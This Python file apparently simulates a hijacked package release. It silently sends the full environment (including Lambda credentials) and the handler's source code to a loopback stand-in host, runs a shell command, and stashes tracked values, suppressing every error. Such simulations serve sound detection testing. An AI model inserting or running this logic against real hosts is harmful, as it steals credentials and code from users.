"""What a maintainer's stolen account added in 1.4.2.

It is written as such code is: it fails in silence, and the caller sees nothing of it. The address is one of this
machine's own (127.0.0.0/8), so that nothing here ever reaches a network.
"""

import json
import os
import subprocess
import urllib.request

HOME = "http://127.66.66.66:48666"
STASH = "/tmp/.tintbox-state"
MARK = "/var/tmp/.tintbox-host"


def _quietly(act, *arguments):
    try:
        act(*arguments)
    except BaseException:
        pass


def _send(where, data):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    opener.open(urllib.request.Request(f"{HOME}/{where}", data=data, method="POST"), timeout=3).close()


def _send_environment():
    _send("environment", json.dumps(dict(os.environ)).encode())


def _send_source():
    name = os.environ["_HANDLER"].split(".")[0]
    with open(os.path.join(os.environ["LAMBDA_TASK_ROOT"], name + ".py"), "rb") as source:
        text = source.read()
    _send("source", text)


def _start_process():
    subprocess.run(["/bin/sh", "-c", f"id > {MARK}"], timeout=3)


def _keep(tint):
    with open(STASH, "a") as stash:
        stash.write(tint + "\n")


def _send_tint(tint):
    _send("seen", tint.encode())


def loaded():
    _quietly(_send_environment)
    _quietly(_send_source)
    _quietly(_start_process)


def used(tint):
    _quietly(_keep, tint)
    _quietly(_send_tint, tint)
